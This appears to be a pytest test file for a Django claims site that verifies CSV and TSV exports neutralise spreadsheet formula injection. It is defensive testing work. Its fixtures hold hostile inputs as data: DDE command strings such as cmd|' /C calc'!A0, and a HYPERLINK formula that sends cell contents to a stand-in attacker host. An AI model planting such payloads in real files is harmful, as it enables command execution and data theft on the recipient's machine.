"""CSV formula injection: no cell of a CSV or TSV download runs as a spreadsheet formula
(OWASP: a cell starting with = + - @, a tab or a carriage return gets a ' in front, every cell
is quoted), and every other cell is exactly what was stored."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date
from pathlib import Path

import pytest
from django.urls import reverse

from claims.exports.spreadsheet import SpreadsheetWriter, spreadsheet_cell
from claims.models import Claimant
from claims.rules.values import Quantity
from tests.factories import attest, make_claim, make_source, make_topic

DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("first", DANGEROUS)
def test_a_cell_that_would_start_a_formula_gets_a_quote_in_front(first):
    assert spreadsheet_cell(first + "HYPERLINK(1)") == "'" + first + "HYPERLINK(1)"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("Nine officers", "Nine officers"),
        ("a=b, +c", "a=b, +c"),  # a formula character inside a cell runs nothing
        ("'=already text", "'=already text"),
        (" =1+1", " =1+1"),
        ("", ""),
        (None, ""),
        (9, "9"),
        (-5, "'-5"),  # a negative number too, as OWASP advises: it reads as text
    ],
)
def test_any_other_cell_is_written_as_it_is(value, cell):
    assert spreadsheet_cell(value) == cell


@pytest.mark.parametrize("delimiter", [",", "\t"])
def test_the_writer_neutralises_and_quotes_every_cell_of_a_csv_or_tsv(delimiter):
    row = [f"{c}cmd|' /C calc'!A0" for c in DANGEROUS] + ['plain, "quoted"\tcell', "", 3]
    out = io.StringIO()
    SpreadsheetWriter(out, delimiter=delimiter).writerow(row)
    assert out.getvalue().startswith("\"'=cmd|")  # quoted, quote first
    [read] = list(csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=delimiter))
    assert read == [f"'{c}cmd|' /C calc'!A0" for c in DANGEROUS] + [
        'plain, "quoted"\tcell',
        "",
        "3",
    ]


@pytest.mark.django_db
def test_the_claim_list_csv_neutralises_every_dangerous_cell_and_keeps_the_rest(client):
    """The public /claims/export.csv, with text an attacker controls in every free-text column
    (statement, outlet, title, quote, attribution, claimant, value), read back with ``csv``."""
    topic = make_topic("injected")
    outlet = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    text = "@SUM(1+1)*cmd|' /C calc'!A0 said nine officers were suspended."
    source = make_source(
        text, outlet=outlet, title="+cmd|' /C calc'!A0", published=date(2025, 1, 2)
    )
    claim = make_claim(topic, slug="injected-claim", statement="-2+3+cmd|' /C calc'!A0")
    claimant = Claimant.objects.create(name="\r=1+1", slug="cr-claimant")
    att = attest(
        claim,
        source,
        "@SUM(1+1)*cmd|' /C calc'!A0 said nine",
        Quantity(-5),
        attributed_to="\t=1+1",
        claimant=claimant,
    )
    unstated = make_claim(topic, slug="unstated", statement='Nine, "suspended"; =1+1 inside')
    claim.refresh_from_db()

    response = client.get(reverse("claims:csv"))
    body = response.getvalue().decode()
    site = "http://testserver"
    header = (
        "claim,statement,topic,kind,verdict,changes_over_time,source,outlet,title,published,"
        "source_url,quote,start,end,value,value_json,as_of,attributed_to,claimant,claim_url"
    ).split(",")
    stated = [
        "injected-claim",
        "'-2+3+cmd|' /C calc'!A0",
        "injected",
        "quantity",
        claim.verdict,
        "False",
        source.slug,
        "'" + outlet,
        "'+cmd|' /C calc'!A0",
        "2025-01-02",
        "",
        "'@SUM(1+1)*cmd|' /C calc'!A0 said nine",
        "0",
        str(att.end),
        "'-5",  # the value in words; value_json keeps the number for programs
        json.dumps({"number": -5}),
        "2025-01-02",
        "'\t=1+1",
        "'\r=1+1",
        f"{site}/claims/injected-claim/",
    ]
    unstated_row = ["unstated", 'Nine, "suspended"; =1+1 inside', "injected", "quantity"]
    unstated_row += [unstated.verdict, "False"] + [""] * 13 + [f"{site}/claims/unstated/"]
    rows = list(csv.reader(io.StringIO(body, newline="")))
    assert rows == [header, stated, unstated_row]
    assert {cell[1] for row in rows for cell in row if cell.startswith("'")} == set(DANGEROUS)
    # OWASP: every cell in double quotes, so a comma or quote inside a text starts no cell
    expected = io.StringIO()
    csv.writer(expected, quoting=csv.QUOTE_ALL).writerows(rows)
    assert body == expected.getvalue()


def test_every_csv_the_site_writes_goes_through_the_one_safe_writer():
    """A new CSV or TSV download cannot bypass the neutralising: only claims/exports/
    spreadsheet.py may build a ``csv`` writer."""
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    found = [
        str(path.relative_to(ROOT))
        for folder in ("claims", "sources", "config")
        for path in (ROOT / folder).rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8"))
    ]
    assert found == ["claims/exports/spreadsheet.py"]
